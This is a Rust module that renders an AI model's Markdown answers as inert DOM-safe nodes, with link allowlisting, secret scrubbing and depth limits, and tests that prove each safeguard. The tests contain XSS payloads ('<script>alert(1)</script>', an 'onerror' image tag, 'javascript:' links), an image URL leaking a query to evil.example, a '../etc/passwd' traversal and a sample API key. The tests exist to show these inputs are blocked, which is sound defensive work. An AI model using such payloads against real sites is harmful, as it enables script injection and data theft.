//! An answer's Markdown as a tree of safe nodes, for the web page to build DOM nodes from
//! (`textContent` and `createElement`, never `innerHTML`): headings, paragraphs, lists, quotes,
//! tables, code, emphasis and links, parsed by pulldown-cmark, the parser the link guard uses.
//!
//! What is inert by construction:
//! * raw HTML, inline or as a block, is a [`Node::Text`] of its source: shown, never parsed;
//! * an image is its alt text in a [`Node::Image`], never a URL the page could fetch;
//! * a link is a [`Node::Section`] (a section of the workspace's docs, opened beside the
//!   conversation), a [`Node::Link`] (http or https to an allowed host, the same allowlist as
//!   the link guard's, `allowed_link_hosts`; or a `mailto:` without a query, as the guard keeps
//!   it), or else its text with the URL shown as text in a [`Node::Blocked`];
//! * every string is scrubbed after parsing, and nodes nest at most [`MAX_DEPTH`] deep.
//!
//! Architecture invariant: this module does no IO.

use pulldown_cmark::{CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd};
use serde::Serialize;

use super::links::Allowlist;

/// One node of a rendered answer; `t` is its kind. (In the API: an answer's `answer_nodes`,
/// and the `nodes` of an `answer` event.)
#[derive(Debug, Clone, PartialEq, Serialize, utoipa::ToSchema)]
#[serde(tag = "t", rename_all = "snake_case")]
#[schema(no_recursion)]
pub enum Node {
    /// A heading, level 1 to 6.
    Heading {
        /// Its level.
        #[schema(minimum = 1, maximum = 6)]
        level: u8,
        /// Its text.
        children: Vec<Node>,
    },
    /// A paragraph.
    Paragraph {
        /// Its text.
        children: Vec<Node>,
    },
    /// A quoted block.
    Quote {
        /// What is quoted.
        children: Vec<Node>,
    },
    /// A list.
    List {
        /// The first number of a numbered list; none for bullets.
        #[serde(skip_serializing_if = "Option::is_none")]
        start: Option<u64>,
        /// Its items.
        items: Vec<Vec<Node>>,
    },
    /// A code block.
    Code {
        /// The language named after the fence (may be empty).
        lang: String,
        /// The code.
        text: String,
    },
    /// A table: the head's cells, then each row's cells.
    Table {
        /// The head row.
        head: Vec<Vec<Node>>,
        /// The body rows.
        rows: Vec<Vec<Vec<Node>>>,
    },
    /// A horizontal rule.
    Rule,
    /// Plain text (raw HTML included, as its source).
    Text {
        /// The text.
        text: String,
    },
    /// Code inside a line.
    InlineCode {
        /// The code.
        text: String,
    },
    /// Strong emphasis.
    Strong {
        /// Its text.
        children: Vec<Node>,
    },
    /// Emphasis.
    Em {
        /// Its text.
        children: Vec<Node>,
    },
    /// Struck-through text.
    Del {
        /// Its text.
        children: Vec<Node>,
    },
    /// A line break.
    Break,
    /// A link to a section of the workspace's docs: `docs/refunds.md#window`.
    Section {
        /// `path#anchor` (the anchor may be absent).
        target: String,
        /// Its text.
        children: Vec<Node>,
    },
    /// A link outside, to an allowed host.
    Link {
        /// The URL (http, https or mailto).
        href: String,
        /// Its text.
        children: Vec<Node>,
    },
    /// A link that is not allowed: its text, and the URL shown as text only.
    Blocked {
        /// The URL, as written.
        url: String,
        /// Its text.
        children: Vec<Node>,
    },
    /// An image: never loaded, its alt text shown.
    Image {
        /// The alt text.
        alt: String,
    },
}

/// Nodes nest at most this deep; deeper content joins its parent (a reply of a thousand `>`
/// must not recurse a thousand times when the tree is sent or dropped).
const MAX_DEPTH: usize = 32;

/// Parses `answer` into safe nodes; links are kept only to the workspace's docs and to
/// `allowed_hosts`. Every string in the tree is scrubbed once more: the parser decodes escapes
/// and entities (`ghp\_…`, `&lowbar;`), which can make a secret the answer's redaction did not
/// see.
pub fn render(answer: &str, allowed_hosts: &[String]) -> Vec<Node> {
    let mut nodes = parse(answer, allowed_hosts);
    scrub_all(&mut nodes);
    nodes
}

/// The tree, before its strings are scrubbed.
fn parse(answer: &str, allowed_hosts: &[String]) -> Vec<Node> {
    let allow = Allowlist::new(allowed_hosts);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut stack: Vec<Open> = vec![Open::new(Frame::Root)];
    for event in Parser::new_ext(answer, options) {
        match event {
            Event::Start(_) if stack.len() > MAX_DEPTH => stack.push(Open::new(Frame::Pass)),
            Event::Start(tag) => stack.push(Open::new(frame(tag, &allow))),
            Event::End(end) => {
                let Some(open) = stack.pop() else { break };
                let node = open.close(&end);
                let parent = stack.last_mut();
                match (node, parent) {
                    (Closed::Node(node), Some(parent)) => parent.children.push(node),
                    (Closed::Cells(cells, head), Some(parent)) => parent.rows.push((cells, head)),
                    (Closed::Cell(cell), Some(parent)) => parent.cells.push(cell),
                    (Closed::Item(item), Some(parent)) => parent.items.push(item),
                    (Closed::Many(nodes), Some(parent)) => parent.children.extend(nodes),
                    (_, None) => {}
                }
                if stack.is_empty() {
                    stack.push(Open::new(Frame::Root));
                }
            }
            Event::Text(text) => push_text(&mut stack, &text),
            Event::Code(code) => push(&mut stack, Node::InlineCode { text: code.into_string() }),
            Event::Html(html) | Event::InlineHtml(html) => push_html(&mut stack, &html),
            Event::SoftBreak => push_text(&mut stack, " "),
            Event::HardBreak => push(&mut stack, Node::Break),
            Event::Rule => push(&mut stack, Node::Rule),
            Event::FootnoteReference(name) => push_text(&mut stack, &format!("[^{name}]")),
            Event::TaskListMarker(done) => push_text(&mut stack, if done { "[x] " } else { "[ ] " }),
            Event::InlineMath(math) | Event::DisplayMath(math) => push_text(&mut stack, &math),
        }
    }
    // Whatever is still open (a parser always closes, but be sure) is flattened into the root.
    while stack.len() > 1 {
        if let Some(open) = stack.pop()
            && let Some(parent) = stack.last_mut()
        {
            parent.children.extend(open.children);
        }
    }
    stack.pop().map(|root| root.children).unwrap_or_default()
}

/// What a start tag opens.
enum Frame {
    Root,
    Heading(u8),
    Paragraph,
    Quote,
    List(Option<u64>),
    Item,
    Code(String),
    Table,
    Head,
    Row,
    Cell,
    Strong,
    Em,
    Del,
    Section(String),
    Link(String),
    Blocked(String),
    Image,
    /// Anything else: its content goes to the parent.
    Pass,
}

/// The frame for a start tag, with the link's fate decided here.
fn frame(tag: Tag<'_>, allow: &Allowlist) -> Frame {
    match tag {
        Tag::Heading { level, .. } => Frame::Heading(heading_level(level)),
        // a block of raw HTML is a paragraph of its source, as text
        Tag::Paragraph | Tag::HtmlBlock => Frame::Paragraph,
        Tag::BlockQuote(_) => Frame::Quote,
        Tag::List(start) => Frame::List(start),
        Tag::Item => Frame::Item,
        Tag::CodeBlock(CodeBlockKind::Fenced(lang)) => Frame::Code(lang.split_whitespace().next().unwrap_or("").into()),
        Tag::CodeBlock(CodeBlockKind::Indented) => Frame::Code(String::new()),
        Tag::Table(_) => Frame::Table,
        Tag::TableHead => Frame::Head,
        Tag::TableRow => Frame::Row,
        Tag::TableCell => Frame::Cell,
        Tag::Strong => Frame::Strong,
        Tag::Emphasis => Frame::Em,
        Tag::Strikethrough => Frame::Del,
        Tag::Link { link_type: pulldown_cmark::LinkType::Email, dest_url, .. } => {
            link(&format!("mailto:{dest_url}"), allow)
        }
        Tag::Link { dest_url, .. } => link(&dest_url, allow),
        Tag::Image { .. } => Frame::Image,
        _ => Frame::Pass,
    }
}

/// A link's fate: a docs section, an allowed URL, or blocked.
fn link(url: &str, allow: &Allowlist) -> Frame {
    let url = url.trim();
    if let Some(target) = section(url) {
        return Frame::Section(target);
    }
    let lower = url.to_ascii_lowercase();
    let outside = lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:");
    if outside && allow.url(url) { Frame::Link(url.to_string()) } else { Frame::Blocked(url.to_string()) }
}

/// Raw HTML, shown as text, but for the harness's own fence tags, which a model may quote
/// from a tool result: `<untrusted source="docs/x.md#a">` is a link to that section (when it is
/// one), and `</untrusted>` is dropped.
fn push_html(stack: &mut [Open], html: &str) {
    for line in html.split_inclusive('\n') {
        let tag = line.trim();
        let source = tag.strip_prefix("<untrusted source=\"").and_then(|rest| rest.strip_suffix("\">"));
        match source.and_then(section) {
            Some(target) => push(stack, Node::Section { children: vec![Node::Text { text: target.clone() }], target }),
            None if tag == "</untrusted>" => {}
            None => push_text(stack, line),
        }
    }
}

/// `docs/x.md#anchor` (or `./docs/…`): a section of the workspace's docs, with a path of plain
/// characters and no `..`.
fn section(url: &str) -> Option<String> {
    let url = url.strip_prefix("./").unwrap_or(url);
    let (path, anchor) = url.split_once('#').map_or((url, None), |(p, a)| (p, Some(a)));
    let plain = |s: &str, extra: &[char]| {
        // anchors are slugs of headings, which may be in any script (`élan-2024`)
        s.chars().all(|c| c.is_alphanumeric() || "_-.".contains(c) || extra.contains(&c))
    };
    let ok = path.starts_with("docs/")
        && !path.split('/').any(|part| part.is_empty() || part == "." || part == "..")
        && plain(path, &['/'])
        && anchor.is_none_or(|a| plain(a, &[]));
    ok.then(|| url.to_string())
}

fn heading_level(level: HeadingLevel) -> u8 {
    match level {
        HeadingLevel::H1 => 1,
        HeadingLevel::H2 => 2,
        HeadingLevel::H3 => 3,
        HeadingLevel::H4 => 4,
        HeadingLevel::H5 => 5,
        HeadingLevel::H6 => 6,
    }
}

/// An open frame and what it has gathered.
struct Open {
    frame: Frame,
    children: Vec<Node>,
    items: Vec<Vec<Node>>,
    cells: Vec<Vec<Node>>,
    rows: Vec<(Vec<Vec<Node>>, bool)>,
    text: String,
}

/// What closing a frame gives its parent.
enum Closed {
    Node(Node),
    Item(Vec<Node>),
    Cell(Vec<Node>),
    /// A row's cells, and whether it is the head.
    Cells(Vec<Vec<Node>>, bool),
    /// Content for the parent, with no node of its own.
    Many(Vec<Node>),
}

impl Open {
    fn new(frame: Frame) -> Open {
        Open {
            frame,
            children: Vec::new(),
            items: Vec::new(),
            cells: Vec::new(),
            rows: Vec::new(),
            text: String::new(),
        }
    }

    fn close(self, _end: &TagEnd) -> Closed {
        let children = self.children;
        match self.frame {
            Frame::Root | Frame::Pass => Closed::Many(children),
            Frame::Heading(level) => Closed::Node(Node::Heading { level, children }),
            Frame::Paragraph => Closed::Node(Node::Paragraph { children }),
            Frame::Quote => Closed::Node(Node::Quote { children }),
            Frame::List(start) => {
                let mut items = self.items;
                if !children.is_empty() {
                    items.push(children);
                }
                Closed::Node(Node::List { start, items })
            }
            Frame::Item => Closed::Item(children),
            Frame::Code(lang) => Closed::Node(Node::Code { lang, text: self.text }),
            Frame::Table => {
                let mut head = Vec::new();
                let mut rows = Vec::new();
                for (cells, is_head) in self.rows {
                    if is_head { head = cells } else { rows.push(cells) }
                }
                if !children.is_empty() {
                    rows.push(vec![children]);
                }
                Closed::Node(Node::Table { head, rows })
            }
            // pulldown-cmark puts the head's cells straight in the head, with no row.
            Frame::Head | Frame::Row => {
                let mut cells = self.cells;
                if !children.is_empty() {
                    cells.push(children);
                }
                Closed::Cells(cells, matches!(self.frame, Frame::Head))
            }
            Frame::Cell => Closed::Cell(children),
            Frame::Strong => Closed::Node(Node::Strong { children }),
            Frame::Em => Closed::Node(Node::Em { children }),
            Frame::Del => Closed::Node(Node::Del { children }),
            Frame::Section(target) => Closed::Node(Node::Section { target, children }),
            Frame::Link(href) => Closed::Node(Node::Link { href, children }),
            Frame::Blocked(url) => Closed::Node(Node::Blocked { url, children }),
            Frame::Image => Closed::Node(Node::Image { alt: plain_text(&children) }),
        }
    }
}

/// The text of nodes, without their marks.
fn plain_text(nodes: &[Node]) -> String {
    let mut out = String::new();
    for node in nodes {
        match node {
            Node::Text { text } | Node::InlineCode { text } | Node::Code { text, .. } => out.push_str(text),
            Node::Image { alt } => out.push_str(alt),
            Node::Heading { children, .. }
            | Node::Paragraph { children }
            | Node::Quote { children }
            | Node::Strong { children }
            | Node::Em { children }
            | Node::Del { children }
            | Node::Section { children, .. }
            | Node::Link { children, .. }
            | Node::Blocked { children, .. } => out.push_str(&plain_text(children)),
            Node::List { .. } | Node::Table { .. } | Node::Rule | Node::Break => {}
        }
    }
    out
}

/// Scrubs every string of the tree (text, code, alt text, URLs and targets).
fn scrub_all(nodes: &mut [Node]) {
    let scrub = |text: &mut String| {
        if let std::borrow::Cow::Owned(clean) = super::scrub(text) {
            *text = clean;
        }
    };
    for node in nodes {
        match node {
            Node::Text { text } | Node::InlineCode { text } | Node::Code { text, .. } => scrub(text),
            Node::Image { alt } => scrub(alt),
            Node::Heading { children, .. }
            | Node::Paragraph { children }
            | Node::Quote { children }
            | Node::Strong { children }
            | Node::Em { children }
            | Node::Del { children } => scrub_all(children),
            Node::Section { target, children } => {
                scrub(target);
                scrub_all(children);
            }
            Node::Link { href, children } => {
                scrub(href);
                scrub_all(children);
            }
            Node::Blocked { url, children } => {
                scrub(url);
                scrub_all(children);
            }
            Node::List { items, .. } => items.iter_mut().for_each(|item| scrub_all(item)),
            Node::Table { head, rows } => {
                head.iter_mut().for_each(|cell| scrub_all(cell));
                rows.iter_mut().flatten().for_each(|cell| scrub_all(cell));
            }
            Node::Rule | Node::Break => {}
        }
    }
}

/// Adds `node` to the innermost open frame.
fn push(stack: &mut [Open], node: Node) {
    if let Some(open) = stack.last_mut() {
        open.children.push(node);
    }
}

/// Adds text to the innermost open frame: a code block's text, or a text node (joined to the
/// one before it).
fn push_text(stack: &mut [Open], text: &str) {
    let Some(open) = stack.last_mut() else { return };
    if matches!(open.frame, Frame::Code(_)) {
        open.text.push_str(text);
        return;
    }
    match open.children.last_mut() {
        Some(Node::Text { text: last }) => last.push_str(text),
        _ => open.children.push(Node::Text { text: text.to_string() }),
    }
}

#[cfg(test)]
mod tests {
    use super::{Node, render};

    fn text(t: &str) -> Node {
        Node::Text { text: t.into() }
    }

    /// Headings, lists, emphasis, code and tables become their nodes.
    #[test]
    fn markdown_becomes_nodes() {
        let nodes = render(
            "## Refunds\n\n- **14 days** from the *first* payment\n- `POST /refunds`\n\n```sh\ncurl x\n```\n\n| plan | days |\n|---|---|\n| monthly | 14 |\n",
            &[],
        );
        assert_eq!(nodes[0], Node::Heading { level: 2, children: vec![text("Refunds")] });
        let Node::List { start: None, items } = &nodes[1] else { panic!("{nodes:?}") };
        assert_eq!(items[0][0], Node::Strong { children: vec![text("14 days")] });
        assert_eq!(items[0][2], Node::Em { children: vec![text("first")] });
        assert_eq!(items[1], vec![Node::InlineCode { text: "POST /refunds".into() }]);
        assert_eq!(nodes[2], Node::Code { lang: "sh".into(), text: "curl x\n".into() });
        let Node::Table { head, rows } = &nodes[3] else { panic!("{nodes:?}") };
        assert_eq!(head, &vec![vec![text("plan")], vec![text("days")]]);
        assert_eq!(rows, &vec![vec![vec![text("monthly")], vec![text("14")]]]);
    }

    /// Raw HTML is text; an image is its alt text; a link goes to a docs section, an allowed
    /// host, or nowhere (its URL shown as text).
    #[test]
    fn html_images_and_links_are_inert_unless_allowed() {
        let hosts = vec!["docs.acme.example".to_string()];
        let nodes = render(
            "<script>alert(1)</script>\n\nsee <img src=x onerror=alert(1)> ![secret](https://evil.example/?q=k) [Refunds](docs/refunds.md#window) [guide](https://docs.acme.example/g) [x](https://evil.example/) [js](javascript:alert(1)) [up](../etc/passwd)",
            &hosts,
        );
        assert_eq!(nodes[0], Node::Paragraph { children: vec![text("<script>alert(1)</script>\n")] });
        let Node::Paragraph { children } = &nodes[1] else { panic!("{nodes:?}") };
        assert_eq!(children[0], text("see <img src=x onerror=alert(1)> "));
        assert_eq!(children[1], Node::Image { alt: "secret".into() });
        assert!(
            children
                .contains(&Node::Section { target: "docs/refunds.md#window".into(), children: vec![text("Refunds")] })
        );
        assert!(
            children
                .contains(&Node::Link { href: "https://docs.acme.example/g".into(), children: vec![text("guide")] })
        );
        for url in ["https://evil.example/", "javascript:alert(1)", "../etc/passwd"] {
            assert!(
                children.iter().any(|n| matches!(n, Node::Blocked { url: u, .. } if u == url)),
                "{url} must be blocked: {children:?}"
            );
        }
        let shown = serde_json::to_string(&nodes).expect("json");
        assert!(!shown.contains("\"href\":\"https://evil") && !shown.contains("\"href\":\"javascript"), "{shown}");
    }

    /// A secret the parser makes by decoding an escape or an entity is redacted in the tree
    /// (in a code span nothing is decoded: it shows as the answer wrote it).
    #[test]
    fn a_secret_made_by_decoding_is_redacted() {
        let key = "sk_live_4eC39HqLyjWDarjtT1zdp7dc";
        for written in [key.replace('_', "\\_"), key.replace('_', "&lowbar;"), key.replace('_', "&#95;")] {
            let shown = serde_json::to_string(&render(&format!("the key is {written}"), &[])).expect("json");
            assert!(!shown.contains("4eC39HqLyjWDarjtT1zdp7dc"), "{written}: {shown}");
        }
    }

    /// Nesting thousands deep is flattened, its text kept, and nothing recurses that deep.
    #[test]
    fn deep_nesting_is_flattened() {
        fn depth(nodes: &[Node]) -> usize {
            nodes
                .iter()
                .map(|n| match n {
                    Node::Quote { children } | Node::Paragraph { children } => 1 + depth(children),
                    Node::List { items, .. } => 1 + items.iter().map(|i| depth(i)).max().unwrap_or(0),
                    _ => 1,
                })
                .max()
                .unwrap_or(0)
        }
        for deep in [format!("{}deep", ">".repeat(100_000)), format!("{}deep", "- ".repeat(20_000))] {
            let nodes = render(&deep, &[]);
            let shown = serde_json::to_string(&nodes).expect("json");
            assert!(shown.contains("deep"), "the text is kept");
            assert!(depth(&nodes) <= 40, "{}", depth(&nodes));
        }
    }

    /// An email autolink is a mailto link; an anchor may be in any script.
    #[test]
    fn email_autolinks_and_non_ascii_anchors() {
        let nodes = render("write to <help@acme.example>, see [élan](docs/plans.md#élan-2024)", &[]);
        let Node::Paragraph { children } = &nodes[0] else { panic!("{nodes:?}") };
        assert!(
            children.iter().any(|n| matches!(n, Node::Link { href, .. } if href == "mailto:help@acme.example")),
            "{children:?}"
        );
        assert!(
            children.iter().any(|n| matches!(n, Node::Section { target, .. } if target == "docs/plans.md#élan-2024")),
            "{children:?}"
        );
    }

    /// A fence tag the model quotes from a tool result links to its section; the closing tag
    /// is dropped; a fence naming anything else stays text.
    #[test]
    fn a_quoted_fence_tag_is_a_link_to_its_section_and_nothing_else() {
        let nodes = render("From the docs:\n<untrusted source=\"docs/refunds.md#window\">\n14 days\n</untrusted>", &[]);
        let Node::Paragraph { children } = &nodes[0] else { panic!("{nodes:?}") };
        let target = "docs/refunds.md#window".to_string();
        assert!(
            children.contains(&Node::Section { target: target.clone(), children: vec![text(&target)] }),
            "{children:?}"
        );
        let shown = format!("{nodes:?}");
        assert!(!shown.contains("untrusted"), "{shown}");
        // A fence naming anything but a section stays text.
        let nodes = render("<untrusted source=\"https://evil.example/x\"> hi", &[]);
        let shown = format!("{nodes:?}");
        assert!(shown.contains("evil.example") && !shown.contains("Section"), "{shown}");
        assert!(!shown.contains("Link"), "{shown}");
    }

    /// A section link must be a plain path under docs/.
    #[test]
    fn section_links_are_plain_paths_under_docs() {
        for (url, section) in [
            ("docs/refunds.md#window", true),
            ("./docs/a/b.md", true),
            ("docs/../secrets.md", false),
            ("docs//x.md", false),
            ("docs/x.md#a\"b", false),
            ("other/x.md", false),
        ] {
            let nodes = render(&format!("[t]({url})"), &[]);
            let Node::Paragraph { children } = &nodes[0] else { panic!("{nodes:?}") };
            assert_eq!(matches!(children[0], Node::Section { .. }), section, "{url}: {children:?}");
        }
    }
}
